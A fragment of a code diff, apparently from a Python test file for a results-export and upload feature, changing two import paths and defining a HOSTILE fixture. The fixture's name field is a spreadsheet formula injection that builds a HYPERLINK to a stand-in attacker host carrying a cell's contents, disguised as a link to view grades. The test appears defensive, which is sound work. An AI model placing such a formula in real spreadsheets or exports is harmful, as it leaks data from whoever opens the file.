@@ -9,8 +9,8 @@ import sqlite3
 import requests
 from openpyxl import load_workbook
 
-from sync.client import upload_bundle
-from sync.result_bundle import build_result_bundle
+from contracts.upload import upload_bundle
+from hall_server.result_export import build_result_bundle
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.invalid/?d="&C2,"点击查看成绩")',
